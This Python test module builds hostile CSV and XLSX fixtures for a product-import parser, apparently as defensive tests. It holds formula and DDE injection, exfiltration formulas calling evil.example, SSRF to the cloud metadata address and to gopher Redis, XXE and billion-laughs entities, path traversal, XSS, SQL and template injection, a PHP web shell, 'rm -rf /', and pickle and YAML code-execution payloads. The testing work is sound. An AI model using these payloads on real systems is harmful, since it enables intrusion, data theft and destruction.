"""Tables: formulas, signs no text has, lines and columns without end, workbooks that point outside."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator

from tests.trust.files import MARK, Hostile, fixed
from tests.trust.files.documents import LAUGHS, METADATA, PASSWD

HEADERS = "Артикул;Наименование;Цена;Картинка\n"
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)",
    "\t=1+1",
    '=HYPERLINK("http://evil.example/?"&A1;"x")',
    '=WEBSERVICE("http://169.254.169.254/")',
    '=IMPORTXML(CONCAT("http://evil.example/";A1);"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "％=1+1",
    "\u00a0=1+1",
)
NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def tables() -> Iterator[Hostile]:
    """All of them."""
    for place, formula in enumerate(FORMULAS):
        line = f'H-{place};"{formula.replace(chr(34), chr(34) * 2)}";10;x.png\n'
        yield Hostile(f"csv: formula {formula[:14]!r}", fixed(HEADERS + line), taken=True)
    for name, text in _odd_values().items():
        yield Hostile(f"csv: {name}", fixed(HEADERS + text), taken=True)
    for name, body in _no_tables().items():
        yield Hostile(f"csv: {name}", fixed(body))
    yield Hostile("csv: a line of 3 MB", lambda: (HEADERS + "x;" * 1_500_000).encode())
    yield Hostile("csv: a cell of 1 MB", lambda: (HEADERS + f"H;{'я' * 500_000};1;").encode())
    yield Hostile("csv: 40,000 columns", lambda: (";".join("абв" for _n in range(40_000)) + "\n").encode())
    yield Hostile("csv: quotation never closed", lambda: (HEADERS + '"' + "x;y\n" * 300_000).encode())
    yield Hostile("csv: a million empty lines", lambda: b"\n" * 1_000_000)
    yield Hostile("csv: nothing but quotation marks", lambda: b'"' * 200_001)
    for name, members in _workbooks().items():
        yield Hostile(f"xlsx: {name}", lambda members=members: packed(members))
    for name, members in _taken_workbooks().items():
        yield Hostile(f"xlsx: {name}", lambda members=members: packed(members), taken=True)
    yield Hostile(
        "xlsx: 100 MB of zeros for words",
        lambda: packed(
            book("", {"xl/sharedStrings.xml": f"<sst {NS}>{' ' * 100_000_000}</sst>"}), zipfile.ZIP_DEFLATED
        ),
    )


def packed(members: dict[str, str | bytes], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP of these."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", how) as archive:
        for name, body in members.items():
            archive.writestr(name, body)
    return out.getvalue()


def book(
    rows: str, more: dict[str, str | bytes] | None = None, target: str = "worksheets/sheet1.xml"
) -> dict[str, str | bytes]:
    """A workbook of one sheet with these rows."""
    return {
        "[Content_Types].xml": "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'/>",
        "xl/workbook.xml": (
            f"<workbook {NS} xmlns:r='{OFFICE}'><sheets><sheet name='Лист' sheetId='1' r:id='r1'/></sheets></workbook>"
        ),
        "xl/_rels/workbook.xml.rels": (
            f"<Relationships xmlns='{RELS_NS}'><Relationship Id='r1' Type='{OFFICE}/worksheet' Target='{target}'/>"
            "</Relationships>"
        ),
        "xl/worksheets/sheet1.xml": f"<worksheet {NS}><sheetData>{_titles()}{rows}</sheetData></worksheet>",
        **(more or {}),
    }


def _titles() -> str:
    return row(1, "Артикул", "Наименование", "Цена")


def row(number: object, *texts: str) -> str:
    """A row of inline words."""
    cells = "".join(f"<c t='inlineStr'><is><t>{text}</t></is></c>" for text in texts)
    return f"<row r='{number}'>{cells}</row>"


def _odd_values() -> dict[str, str]:
    return {
        "price of infinity": "H;x;inf;",
        "price that is no number": "H;x;NaN;",
        "price of a million digits": f"H;x;{'9' * 9000};",
        "price with an exponent": "H;x;1e999999;",
        "price below zero": "H;x;-5;",
        "digits of Arabia": "H;x;١٢٣;",
        "script": "H;<script>alert(1)</script>;1;",
        "template": "H;{{ 7*7 }}{% include '/etc/passwd' %};1;",
        "query": "H;'; DROP TABLE products; --;1;",
        "picture of the system": "H;x;1;../../../../etc/passwd",
        "picture at an address": f"H;x;1;{METADATA}",
        "picture of another scheme": "H;x;1;gopher://127.0.0.1:6379/_FLUSHALL",
        "text turned round": "H;\u202egnp.exe;1;",
        "marks on marks": f"H;Z{'̴' * 5000};1;",
        "line ends of another world": "H;a\u2028b\u2029c\x0bd\x0ce;1;",
        "article number of a path": "../../x;x;1;",
        "the same number twice": "H;x;1;\nH;y;2;\nh;z;3;",
        "empty number": ";x;1;",
        "name of 100 KB": f"H;{'я' * 50_000};1;",
    }


def _no_tables() -> dict[str, bytes | str]:
    text = HEADERS + "H;x;1;\n"
    return {
        "NUL inside": text.replace("x", "x\x00"),
        "control signs": text.replace("x", "\x01\x02"),
        "one column": "a\nb\nc\n",
        "only a mark": b"\xef\xbb\xbf",
        "mark of UTF-16 alone": b"\xff\xfe",
        "UTF-32": text.encode("utf-32"),
        "UTF-16, an odd byte": text.encode("utf-16") + b"\x00",
        "UTF-16 without a mark": text.encode("utf-16-le"),
        "spaces": b" " * 10_000,
        "random bytes": bytes(range(256)) * 40,
        "executable": b"MZ\x90\x00" + b"\x00" * 100,
        "program of Linux": b"\x7fELF\x02\x01\x01" + b"\x00" * 100,
        "PDF": b"%PDF-1.7 /OpenAction /JavaScript (app.alert(1))",
        "RTF": r"{\rtf1{\field{\*\fldinst DDEAUTO c:\\windows\\system32\\cmd.exe}}}",
        "old workbook": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" * 90,
        "gzip": b"\x1f\x8b\x08" + b"\x00" * 50,
        "RAR": b"Rar!\x1a\x07\x01\x00" + b"\x00" * 50,
        "7z": b"7z\xbc\xaf\x27\x1c" + b"\x00" * 50,
        "shell": "#!/bin/sh\nrm -rf /\n",
        "PHP": "<?php system($_GET['c']); ?>",
        "JSON": '{"__proto__": {"admin": true}}',
        "pickle": b"\x80\x04\x95cos\nsystem\n(S'id'\ntR.",
        "YAML": "!!python/object/apply:os.system ['id']\n",
        "nothing": b"",
    }


def _workbooks() -> dict[str, dict[str, str | bytes]]:
    whole = book(row(2, "H", MARK, "1"))
    entity = f'<!DOCTYPE x [<!ENTITY l0 "a">{LAUGHS}<!ENTITY f SYSTEM "{PASSWD}">]>'
    poisoned = {
        f"entities in {name.rpartition('/')[2]}": {**whole, name: entity + str(whole.get(name, f"<sst {NS}/>"))}
        for name in (
            "xl/workbook.xml",
            "xl/_rels/workbook.xml.rels",
            "xl/worksheets/sheet1.xml",
            "xl/sharedStrings.xml",
            "xl/styles.xml",
        )
    }
    words = "<c t='s'><v>{}</v></c>"
    return {
        **poisoned,
        "no sheet": {**whole, "xl/workbook.xml": f"<workbook {NS}/>"},
        "sheet outside": book("", target="../../../etc/passwd"),
        "sheet at an address": book("", target=METADATA),
        "sheet of the system": book("", target="/etc/passwd"),
        "no relations": {name: body for name, body in whole.items() if "rels" not in name},
        "broken sheet": {**whole, "xl/worksheets/sheet1.xml": "<worksheet><sheetData><row>"},
        "words beyond the table": book(f"<row r='2'>{words.format(10**9)}{words.format(5)}</row>"),
        "words before the table": book(f"<row r='2'>{words.format(-1)}{words.format('x')}</row>"),
        "depth": book("<row>" + "<a>" * 5000 + "</a>" * 5000 + "</row>"),
        "text for a letter": {"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<x/>"},
        "letter of Word": {"word/document.xml": "<x/>", "[Content_Types].xml": "<x/>"},
        "slides": {"ppt/presentation.xml": "<x/>"},
        "binary workbook": {"xl/workbook.bin": b"\x83\x01\x00", "[Content_Types].xml": "<x/>"},
    }


def _taken_workbooks() -> dict[str, dict[str, str | bytes]]:
    return {
        "formula": book(
            "<row r='2'><c><f>WEBSERVICE(\"http://169.254.169.254/\")</f><v>1</v></c><c t='str'><v>x</v></c></row>"
        ),
        "macros": book(row(2, "H", MARK, "1"), {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"Auto_Open" * 99}),
        "links outside": book(
            row(2, "H", MARK, "1"),
            {
                "xl/externalLinks/_rels/externalLink1.xml.rels": (
                    f"<Relationships xmlns='{RELS_NS}'><Relationship Id='r' Target='{METADATA}' TargetMode='External'/>"
                    "</Relationships>"
                ),
            },
        ),
        "object inside": book(row(2, "H", MARK, "1"), {"xl/embeddings/oleObject1.bin": b"MZ" + b"\x00" * 500}),
        "a cell far away": book("<row r='1048576'><c r='XFD1048576'><v>1</v></c></row>"),
        "row without end": book(row(10**15, "H", MARK, "1")),
        "row before the first": book(row(-5, "H", MARK, "1")),
        "size that is no size": book(
            row(2, "H", MARK, "1"),
            {
                "xl/worksheets/sheet1.xml": (
                    f"<worksheet {NS}><dimension ref='A1:XFD1048576'/><sheetData>{_titles()}{row(2, 'H', MARK, '1')}"
                    "</sheetData></worksheet>"
                ),
            },
        ),
        "number without end": book(
            "<row r='2'><c t='str'><v>H</v></c><c t='str'><v>x</v></c><c><v>1e999999</v></c></row>"
        ),
        "number that is none": book("<row r='2'><c t='str'><v>H</v></c><c t='str'><v>x</v></c><c><v>NaN</v></c></row>"),
        "escaped signs": book(row(2, "H", "_x0000__x0001__xD800_x", "1")),
        "kind of nobody": book("<row r='2'><c t='zzz'><v>H</v></c><c t='e'><v>#REF!</v></c></row>"),
        "style beyond all": book("<row r='2'><c s='999999999'><v>44000</v></c><c s='-3'><v>1</v></c></row>"),
    }
